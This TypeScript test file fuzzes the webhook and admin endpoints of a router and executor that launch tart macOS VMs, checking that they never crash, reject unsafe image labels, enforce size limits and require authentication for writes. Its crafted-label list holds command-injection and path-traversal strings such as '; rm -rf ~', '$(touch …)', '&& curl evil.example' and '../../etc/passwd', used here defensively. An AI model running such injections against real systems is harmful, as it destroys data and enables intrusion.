/**
 * Hostile input against both daemons' HTTP servers: property-based fuzzing (fast-check) of the
 * webhook endpoints with random JSON, mutated real payloads, wrong types, huge label arrays,
 * unicode and image labels crafted to break out — signed and unsigned. The answer is always a 4xx
 * or an acknowledgement, never a 5xx or a crash, and no VM is ever asked for with an image that
 * fails the image grammar. Then the crafted labels against the real executor process (nothing of
 * them reaches the simulated tart), the server limits (headers, body) and the read-only endpoints
 * (no side effects, nothing mutates without authentication). The slow-client (slow-loris) test
 * is in slow-client.ts: it waits 30–60 s, so it runs alongside the fault scenarios.
 */
import { existsSync, mkdtempSync, rmSync, statSync } from "node:fs";
import { request as httpRequest } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import fc from "fast-check";
import { afterAll, describe, expect } from "vitest";
import { startRouterDaemon } from "../../src/cli/router-daemon.js";
import type { RouterConfig } from "../../src/config/router-config.js";
import type { Ledger } from "../../src/executor/model.js";
import { parseImageReference } from "../../src/github/image-reference.js";
import { createLogger } from "../../src/observability/logger.js";
import { expectCleanEnd, expectServed } from "../helpers/rel-expect.js";
import { startInProcessExecutor } from "../helpers/rel-inprocess.js";
import { deliveryHeaders, WORKFLOW_JOB_EXAMPLES, workflowJobPayload } from "../helpers/rel-payloads.js";
import { stopAllExecutors } from "../helpers/executor-process.js";
import { flushTotals, scenario } from "../helpers/rel-totals.js";
import { sleep } from "../helpers/e2e-world.js";
import { MATCHING } from "../helpers/rel-world.js";

const FULL = process.env["RELIABILITY_FULL"] === "1";
const RUNS = Number(process.env["RELIABILITY_FUZZ_RUNS"] ?? (FULL ? 10_000 : 1_000));
const SECRET = "hostile-input-secret";
const ROUTER_TOKEN = "hostile-router-token";
const ALLOWED = [200, 202, 400, 401, 403, 413, 415];

afterAll(async () => {
  await stopAllExecutors();
  flushTotals(import.meta.url);
});

/** Image labels crafted to break out of a command line, a path or an option. */
const CRAFTED = [
  "; rm -rf ~",
  "ghcr.io/cirruslabs/macos-sequoia-xcode:latest; rm -rf ~",
  "$(touch /tmp/pwned-by-label)",
  "ghcr.io/cirruslabs/$(id):latest",
  "`id`",
  "../x",
  "../../../../etc/passwd",
  "ghcr.io/cirruslabs/../../x",
  "ghcr.io/cirruslabs/x:..",
  "--insecure",
  "-rf",
  "--dir=/:/host",
  "team/image",
  "a/b/c",
  "/absolute/path",
  "ghcr.io/cirruslabs/macos\nsequoia",
  "ghcr.io/cirruslabs/x:latest && curl evil.example",
  "ghcr.io/cirruslabs/x|sh",
  "ghcr.io/cirruslabs/x>out",
  "'quoted'",
  '"double"',
  "$HOME",
  "~/vm",
  "ghcr.io:99999/x/y",
  "ghcr.io/cirruslabs/x@sha256:zzzz",
  " ghcr.io/cirruslabs/x",
  "ghcr.io/cirruslabs/x ",
  "\u0000",
  "ｇｈｃｒ.io/cirruslabs/x",
  "ghcr.io/cirruslabs/🙂",
  "x".repeat(5_000),
  "__proto__",
  "cpu:-1",
  "memory:99999999999999999999",
  "cpu:1e3",
];

/** What no image handed to tart may contain. */
function isSafeImage(image: string): boolean {
  return (
    !/[\s;&|$`'"\\<>(){}*?!#~]/.test(image) &&
    ![...image].some((char) => char.charCodeAt(0) < 0x20 || char.charCodeAt(0) === 0x7f) &&
    !image.includes("..") &&
    !image.startsWith("-") &&
    parseImageReference(image)?.value === image
  );
}

const labelArb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...CRAFTED) },
  { weight: 1, arbitrary: fc.constantFrom("tartelet", "TARTELET", "self-hosted", "macOS", "arm64", "xcode") },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      MATCHING[1],
      "ghcr.io/cirruslabs/macos-sequoia-base:15",
      "GHCR.IO/cirruslabs/macos-sequoia-xcode:16",
      "registry.local:5000/team/macos@sha256:" + "a".repeat(64),
      "localvm",
      "xcode",
    ),
  },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
);
const resourceArb = fc.oneof(
  fc.constantFrom("cpu:4", "memory:8192", "cpu:0", "cpu:-1", "memory:1e9", "cpu:4.5", "CPU:08", "memory:"),
  fc.tuple(fc.constantFrom("cpu:", "memory:"), fc.string({ maxLength: 12 })).map(([k, v]) => k + v),
);
const labelsArb = fc.oneof(
  // What matching jobs look like: the required label and one image label (crafted or not).
  { weight: 6, arbitrary: labelArb.map((label) => ["tartelet", label]) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        labelArb,
        fc.array(resourceArb, { maxLength: 2 }),
        fc.array(fc.constantFrom("self-hosted", "macOS", "ARM64", "TartElet"), { maxLength: 3 }),
      )
      .map(([label, resources, defaults]) => ["tartelet", ...defaults, label, ...resources]),
  },
  { weight: 3, arbitrary: fc.array(labelArb, { maxLength: 6 }).map((labels) => ["tartelet", ...labels]) },
  { weight: 1, arbitrary: fc.array(labelArb, { maxLength: 6 }) },
  // Huge label arrays.
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 1_000, max: 20_000 })
      .map((n) => ["tartelet", ...Array.from({ length: n }, (_, i) => `l${i}`)]),
  },
);
const wrongTypeArb = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.string({ maxLength: 30 }),
  fc.array(fc.anything({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.anything({ maxDepth: 2 }), { maxKeys: 5 }),
  fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 2 ** 64, Number.NaN),
);
const PATHS: ReadonlyArray<readonly string[]> = [
  ["action"],
  ["workflow_job"],
  ["workflow_job", "id"],
  ["workflow_job", "run_id"],
  ["workflow_job", "run_attempt"],
  ["workflow_job", "labels"],
  ["workflow_job", "status"],
  ["workflow_job", "runner_name"],
  ["workflow_job", "conclusion"],
  ["workflow_job", "html_url"],
  ["workflow_job", "name"],
  ["repository"],
  ["repository", "full_name"],
  ["repository", "owner"],
];
/** A real example payload with some fields replaced by wrong types or deleted. */
const mutatedExampleArb = fc
  .record({
    example: fc.integer({ min: 0, max: Math.max(0, WORKFLOW_JOB_EXAMPLES.length - 1) }),
    labels: labelsArb,
    mutations: fc.array(
      fc.record({ path: fc.constantFrom(...PATHS), value: fc.option(wrongTypeArb, { nil: undefined }) }),
      { maxLength: 3 },
    ),
  })
  .map(({ example, labels, mutations }) => {
    const payload = structuredClone(WORKFLOW_JOB_EXAMPLES[example] ?? {}) as Record<string, unknown>;
    const job = payload["workflow_job"] as Record<string, unknown> | undefined;
    if (job !== undefined) job["labels"] = labels;
    for (const { path: fieldPath, value } of mutations) {
      let target: unknown = payload;
      for (const key of fieldPath.slice(0, -1))
        target =
          typeof target === "object" && target !== null
            ? (target as Record<string, unknown>)[key]
            : undefined;
      if (typeof target !== "object" || target === null) continue;
      const last = fieldPath.at(-1) ?? "";
      if (value === undefined) delete (target as Record<string, unknown>)[last];
      else (target as Record<string, unknown>)[last] = value;
    }
    return JSON.stringify(payload);
  });
const jobBodyArb = fc
  .record({
    action: fc.constantFrom("queued", "waiting", "in_progress", "completed"),
    id: fc.oneof(fc.integer({ min: 1, max: 2 ** 40 }), fc.constant(4242)),
    labels: labelsArb,
    runnerName: fc.option(fc.oneof(fc.constantFrom(...CRAFTED), fc.string({ maxLength: 30 })), { nil: null }),
  })
  .map((fields) => JSON.stringify(workflowJobPayload(fields)));
const bodyArb = fc.oneof(
  { weight: 6, arbitrary: jobBodyArb },
  { weight: 4, arbitrary: mutatedExampleArb },
  { weight: 2, arbitrary: fc.json({ maxDepth: 4 }) },
  {
    weight: 1,
    arbitrary: fc.uint8Array({ maxLength: 2_000 }).map((bytes) => Buffer.from(bytes).toString("latin1")),
  },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 200 }) },
);
const deliveryArb = fc.record({
  route: fc.constantFrom("/", "/webhook", "/webhook", "/router"),
  body: bodyArb,
  signing: fc.oneof(
    { weight: 8, arbitrary: fc.constant("signed") },
    { weight: 1, arbitrary: fc.constantFrom("unsigned", "wrong") },
  ),
  event: fc.oneof(
    { weight: 6, arbitrary: fc.constant("workflow_job") },
    { weight: 1, arbitrary: fc.constantFrom("ping", "push", "check_run", "") },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  ),
  contentType: fc.constantFrom(
    "application/json",
    "application/json",
    "application/x-www-form-urlencoded",
    "text/plain",
    "application/octet-stream",
    "",
  ),
  deliveryId: fc.oneof(fc.uuid(), fc.constant(""), fc.string({ maxLength: 60 })),
  routerToken: fc.constantFrom(ROUTER_TOKEN, ROUTER_TOKEN, ROUTER_TOKEN, "wrong-token", null),
});

type Delivery = typeof deliveryArb extends fc.Arbitrary<infer T> ? T : never;

function requestFor(delivery: Delivery): { headers: Record<string, string>; payload: Buffer } {
  const text =
    delivery.contentType === "application/x-www-form-urlencoded"
      ? `payload=${encodeURIComponent(delivery.body)}`
      : delivery.body;
  const payload = Buffer.from(text, delivery.body === text ? "utf8" : "utf8");
  const headers = deliveryHeaders(
    payload,
    delivery.signing === "unsigned" ? null : SECRET,
    delivery.event,
    delivery.deliveryId,
  );
  if (delivery.signing === "wrong") headers["x-hub-signature-256"] = `sha256=${"0".repeat(64)}`;
  if (delivery.contentType === "") delete headers["content-type"];
  else headers["content-type"] = delivery.contentType;
  if (delivery.route === "/router" && delivery.routerToken !== null)
    headers["authorization"] = `Bearer ${delivery.routerToken}`;
  return { headers, payload };
}

function ledgerText(ledger: Ledger): string {
  return JSON.stringify({
    nextSeq: ledger.nextSeq,
    jobs: [...ledger.jobs.entries()],
    vms: [...ledger.vms.entries()],
  });
}

describe.concurrent("hostile input", () => {
  scenario(
    `executor webhook endpoints under ${RUNS} fuzzed deliveries: never 5xx, never an unchecked image`,
    180_000,
    async (t) => {
      const inproc = await startInProcessExecutor({
        secret: SECRET,
        routerToken: ROUTER_TOKEN,
        maxVms: 100_000,
      });
      t.defer(() => inproc.close());
      const statuses = new Map<number, number>();
      await fc.assert(
        fc.asyncProperty(deliveryArb, async (delivery) => {
          const { headers, payload } = requestFor(delivery);
          const response = await inproc.app.inject({ method: "POST", url: delivery.route, headers, payload });
          t.hostile();
          statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1);
          expect(ALLOWED, `status ${response.statusCode}: ${response.body.slice(0, 200)}`).toContain(
            response.statusCode,
          );
        }),
        { numRuns: RUNS },
      );
      // Still up and answering.
      expect((await inproc.app.inject({ method: "GET", url: "/healthz" })).statusCode).toBe(200);
      // Every job recorded and every VM asked for carries an image that passed the grammar.
      const images = [
        ...[...inproc.executor.ledger.jobs.values()].map((job) => job.spec.image),
        ...inproc.started.map((request) => request.spec.image),
      ];
      expect(images.filter((image) => !isSafeImage(image))).toEqual([]);
      expect(inproc.logLines.filter((line) => line.includes('"request failed"'))).toEqual([]);
      t.figure(
        "statuses",
        [...statuses]
          .sort(([a], [b]) => a - b)
          .map(([s, n]) => `${s}:${n}`)
          .join(" "),
      );
      t.figure("jobs recorded", inproc.executor.ledger.jobs.size);
      t.figure("VMs asked for", inproc.started.length);
    },
  );

  scenario("every crafted image label is refused (202, logged) and starts no VM", 60_000, async (t) => {
    const inproc = await startInProcessExecutor({ secret: SECRET, maxVms: 100 });
    t.defer(() => inproc.close());
    let id = 1;
    for (const label of CRAFTED) {
      const body = JSON.stringify(
        workflowJobPayload({ action: "queued", id: id++, labels: ["tartelet", label] }),
      );
      const response = await inproc.app.inject({
        method: "POST",
        url: "/webhook",
        headers: deliveryHeaders(body, SECRET),
        payload: body,
      });
      t.hostile();
      // Acknowledged and ignored (202), or refused as malformed (400): never recorded.
      expect([202, 400], label.slice(0, 60)).toContain(response.statusCode);
      if (response.statusCode === 202)
        expect(JSON.parse(response.body).message, label.slice(0, 60)).toMatch(/^ignored/);
    }
    await sleep(200);
    expect(inproc.started).toEqual([]);
    expect(inproc.executor.ledger.jobs.size).toBe(0);
  });

  scenario(
    "crafted labels sent to the real executor process never reach the simulated tart",
    90_000,
    async (t) => {
      const world = await t.world();
      await world.startExecutor();
      let id = 77_000_000;
      for (const label of CRAFTED) {
        for (const labels of [
          ["tartelet", label],
          ["tartelet", MATCHING[1], label],
        ]) {
          const body = JSON.stringify(workflowJobPayload({ action: "queued", id: id++, labels }));
          const response = await fetch(`${world.executor.url}/webhook`, {
            method: "POST",
            headers: deliveryHeaders(body, world.sim.webhookSecret),
            body,
            signal: AbortSignal.timeout(10_000),
          });
          t.hostile();
          expect([202, 400], label.slice(0, 60)).toContain(response.status);
        }
      }
      // A real job meanwhile: the pipeline works, and its commands are in the log we scan.
      const job = world.queue();
      await expectServed(world, t, job);
      await expectCleanEnd(world, t);
      const text = (exec: boolean): string =>
        world
          .invocations()
          .filter((line) => (line.argv[0] === "exec") === exec)
          .map((line) => JSON.stringify({ argv: line.argv, env: line.env }))
          .join("\n");
      const argvText = text(false);
      expect(argvText).toContain("clone");
      // `tart exec` carries the executor's own guest scripts (which use $HOME and $(…) on purpose):
      // there, no crafted label may appear, nor anything only a crafted label would bring.
      const execText = text(true);
      expect(execText).toContain("runner");
      for (const label of CRAFTED.filter((crafted) => crafted.length > 6))
        expect(execText, label).not.toContain(JSON.stringify(label).slice(1, -1));
      const labelOnly = ["rm -rf", "`id`", "--insecure", "--dir", "pwned", "etc/passwd", "curl", "|sh"];
      for (const needle of [...labelOnly, "$(", "../", "$HOME"])
        expect(argvText, needle).not.toContain(needle);
      for (const needle of labelOnly) expect(execText, needle).not.toContain(needle);
      // Only the one real job made VMs.
      expect(world.commands().filter((command) => command.argv[0] === "clone").length).toBe(1);
    },
  );

  scenario(
    `router webhook endpoints under ${Math.ceil(RUNS / 3)} fuzzed deliveries: never 5xx`,
    180_000,
    async (t) => {
      const dir = mkdtempSync(path.join(tmpdir(), "tart-rel-router-"));
      t.defer(() => rmSync(dir, { recursive: true, force: true }));
      const lines: string[] = [];
      const config: RouterConfig = {
        hostname: "router-1",
        labels: ["tartelet"],
        host: "127.0.0.1",
        port: 0,
        // A host that is not there: jobs are queued durably, never forwarded.
        hosts: [{ hostname: "mini-1", url: "http://127.0.0.1:9", priority: 0 }],
        webhookSecret: SECRET,
        insecureSkipSignatureVerification: false,
        executorToken: ROUTER_TOKEN,
        stateDirectory: dir,
        logging: { level: "warn" },
        statusIntervalMs: 1_000,
        forwardTimeoutMs: 200,
        hostBackoff: { initialMs: 1_000, maxMs: 5_000 },
        maxBodyBytes: 1 << 20,
      };
      const log = createLogger({
        level: "warn",
        pretty: false,
        destination: new Writable({ write: (chunk, _encoding, done) => (lines.push(String(chunk)), done()) }),
      });
      const router = await startRouterDaemon({
        config,
        log,
        listen: { host: "127.0.0.1", port: 0 },
        processMetrics: false,
      });
      t.defer(() => router.close("test over"));
      const statuses = new Map<number, number>();
      await fc.assert(
        fc.asyncProperty(deliveryArb, async (delivery) => {
          const { headers, payload } = requestFor({
            ...delivery,
            route: delivery.route === "/router" ? "/" : delivery.route,
          });
          const response = await fetch(
            `${router.url}${delivery.route === "/router" ? "/" : delivery.route}`,
            {
              method: "POST",
              headers,
              body: payload,
              signal: AbortSignal.timeout(10_000),
            },
          );
          await response.arrayBuffer();
          t.hostile();
          statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
          expect(ALLOWED, `status ${response.status}`).toContain(response.status);
        }),
        { numRuns: Math.ceil(RUNS / 3) },
      );
      expect((await fetch(`${router.url}/healthz`)).status).toBe(200);
      expect(lines.filter((line) => line.includes('"request failed"'))).toEqual([]);
      t.figure(
        "statuses",
        [...statuses]
          .sort(([a], [b]) => a - b)
          .map(([s, n]) => `${s}:${n}`)
          .join(" "),
      );
    },
  );

  scenario(
    "a 100 KB header is refused with 431 and a too-large body with 413, on every POST route",
    60_000,
    async (t) => {
      const inproc = await startInProcessExecutor({
        secret: SECRET,
        routerToken: ROUTER_TOKEN,
        maxBodyBytes: 64 * 1024,
        listen: true,
      });
      t.defer(() => inproc.close());
      for (const route of ["/", "/webhook", "/router"]) {
        const big = await statusOverRawSocket(
          inproc.url,
          `POST ${route} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n` +
            `X-Padding: ${"a".repeat(100 * 1024)}\r\nContent-Length: 2\r\n\r\n{}`,
        );
        t.hostile();
        expect(big.status, route).toBe(431);
        const body = JSON.stringify({ padding: "x".repeat(200 * 1024) });
        const tooLarge = await rawRequest(
          inproc.url,
          route,
          { ...deliveryHeaders(body, SECRET), authorization: `Bearer ${ROUTER_TOKEN}` },
          body,
        );
        t.hostile();
        expect(tooLarge.status, route).toBe(413);
        // Without a content-length (chunked), the limit holds as well: 413, or the connection is
        // cut while the client is still sending (the body is never read).
        const chunked = await rawRequest(
          inproc.url,
          route,
          { ...deliveryHeaders(body, SECRET), "transfer-encoding": "chunked" },
          body,
          true,
        );
        t.hostile();
        expect([413, -1], `${route}: ${chunked.status}`).toContain(chunked.status);
      }
      expect(inproc.executor.ledger.jobs.size).toBe(0);
    },
  );

  scenario(
    "status, metrics, health and admin reads have no side effects; nothing mutates without authentication",
    60_000,
    async (t) => {
      const API_TOKEN = "hostile-api-token";
      const withToken = await startInProcessExecutor({ secret: SECRET, maxVms: 10, apiToken: API_TOKEN });
      t.defer(() => withToken.close());
      // No apiToken: mutations are accepted from this Mac only (docs/operations.md).
      const noToken = await startInProcessExecutor({ secret: SECRET, maxVms: 10, apiToken: null });
      t.defer(() => noToken.close());
      for (const inproc of [withToken, noToken]) {
        // Some state to protect: a queued job with a VM.
        const body = JSON.stringify(workflowJobPayload({ action: "queued", id: 5, labels: [...MATCHING] }));
        const recorded = await inproc.app.inject({
          method: "POST",
          url: "/webhook",
          headers: deliveryHeaders(body, SECRET),
          payload: body,
        });
        expect(recorded.statusCode).toBe(202);
      }
      await sleep(200);
      const snapshot = (inproc: typeof withToken) => {
        const journal = path.join(inproc.dir, "ledger", "ledger.journal.jsonl");
        return {
          ledger: ledgerText(inproc.executor.ledger),
          journal: existsSync(journal) ? statSync(journal).size : 0,
          vms: inproc.started.length,
          accepting: inproc.executor.accepting,
        };
      };
      const before = [snapshot(withToken), snapshot(noToken)];
      const jobKey = encodeURIComponent("acme/app#5#1");
      // Reads, from anywhere, with or without a (wrong) token: never a change.
      const reads = [
        "/status",
        "/metrics",
        "/healthz",
        "/status?drain=1",
        "/metrics?reset=true",
        "/healthz?x=%00",
        "/api/v1/health",
        "/api/v1/status",
        "/api/v1/jobs",
        `/api/v1/jobs/${jobKey}`,
        "/api/v1/jobs/..%2F..%2Fetc",
      ];
      for (const inproc of [withToken, noToken])
        for (const url of reads)
          for (const method of ["GET", "HEAD"] as const)
            for (const remoteAddress of ["127.0.0.1", "10.1.2.3"])
              for (const authorization of [undefined, "Bearer wrong"]) {
                const response = await inproc.app.inject({
                  method,
                  url,
                  remoteAddress,
                  headers: authorization === undefined ? {} : { authorization },
                });
                t.hostile();
                expect(response.statusCode, `${method} ${url}`).toBeLessThan(500);
              }
      // Writes: the admin mutations and anything else, without authentication (no token, a wrong
      // token, or no apiToken configured and a caller on another host): refused, nothing changes.
      const writes = [
        "/api/v1/drain",
        "/api/v1/resume",
        `/api/v1/jobs/${jobKey}/cancel`,
        "/api/v1/jobs/x/cancel",
        "/api/v1/shutdown",
        "/status",
        "/metrics",
        "/healthz",
        "/drain",
      ];
      const attempts: Array<{ inproc: typeof withToken; remoteAddress: string; authorization?: string }> = [
        { inproc: withToken, remoteAddress: "127.0.0.1" },
        { inproc: withToken, remoteAddress: "127.0.0.1", authorization: "Bearer wrong" },
        { inproc: withToken, remoteAddress: "10.1.2.3", authorization: `Basic ${API_TOKEN}` },
        { inproc: noToken, remoteAddress: "10.1.2.3" },
        { inproc: noToken, remoteAddress: "192.168.64.5", authorization: "Bearer anything" },
      ];
      for (const attempt of attempts)
        for (const url of writes)
          for (const method of ["POST", "PUT", "DELETE", "PATCH"] as const) {
            const response = await attempt.inproc.app.inject({
              method,
              url,
              remoteAddress: attempt.remoteAddress,
              headers: {
                "content-type": "application/json",
                ...(attempt.authorization === undefined ? {} : { authorization: attempt.authorization }),
              },
              payload: "{}",
            });
            t.hostile();
            expect(
              response.statusCode,
              `${method} ${url} from ${attempt.remoteAddress}`,
            ).toBeGreaterThanOrEqual(400);
            expect(response.statusCode, `${method} ${url} from ${attempt.remoteAddress}`).toBeLessThan(500);
          }
      await sleep(200);
      expect([snapshot(withToken), snapshot(noToken)]).toEqual(before);
      // The same drain with the token works: the refusals above were not for want of a route.
      const drained = await withToken.app.inject({
        method: "POST",
        url: "/api/v1/drain",
        remoteAddress: "10.1.2.3",
        headers: { authorization: `Bearer ${API_TOKEN}` },
      });
      expect(drained.statusCode).toBe(200);
      expect(withToken.executor.accepting).toBe(false);
    },
  );
});

/**
 * Writes `text` on a raw TCP connection and returns the status code of the answer's first line.
 * A server refusing oversized headers answers and closes at once; the client may still be writing
 * and see a reset that discards the answer, so it is tried up to 5 times.
 */
async function statusOverRawSocket(base: string, text: string): Promise<{ status: number }> {
  const { hostname, port } = new URL(base);
  for (let attempt = 1; ; attempt += 1) {
    const status = await new Promise<number>((resolve) => {
      const socket = connect(Number(port), hostname);
      let received = "";
      const timer = setTimeout(() => socket.destroy(), 10_000);
      socket.on("data", (chunk: Buffer) => (received += chunk.toString("latin1")));
      socket.on("error", () => undefined);
      socket.on("close", () => {
        clearTimeout(timer);
        resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(received)?.[1] ?? -1));
      });
      socket.write(text);
    });
    if (status !== -1 || attempt === 5) return { status };
  }
}

/**
 * A raw HTTP/1.1 request (node:http, so oversized headers reach the server's parser). Status -1:
 * the server closed the connection before answering.
 */
function rawRequest(
  base: string,
  route: string,
  headers: Record<string, string>,
  body: string,
  chunked = false,
): Promise<{ status: number }> {
  const url = new URL(route, base);
  return new Promise((resolve) => {
    const outgoing = { ...headers };
    if (chunked) delete outgoing["content-length"];
    else outgoing["content-length"] = String(Buffer.byteLength(body));
    let answered = false;
    const req = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname,
        method: "POST",
        headers: outgoing,
        timeout: 10_000,
        maxHeaderSize: 1 << 20,
      },
      (res) => {
        answered = true;
        res.resume();
        const done = (): void => resolve({ status: res.statusCode ?? 0 });
        res.on("end", done);
        res.on("error", done);
      },
    );
    req.on("error", () => {
      if (!answered) resolve({ status: -1 });
    });
    req.on("timeout", () => req.destroy(new Error("timeout")));
    if (chunked) {
      for (let offset = 0; offset < body.length; offset += 16 * 1024)
        req.write(body.slice(offset, offset + 16 * 1024));
      req.end();
    } else req.end(body);
  });
}
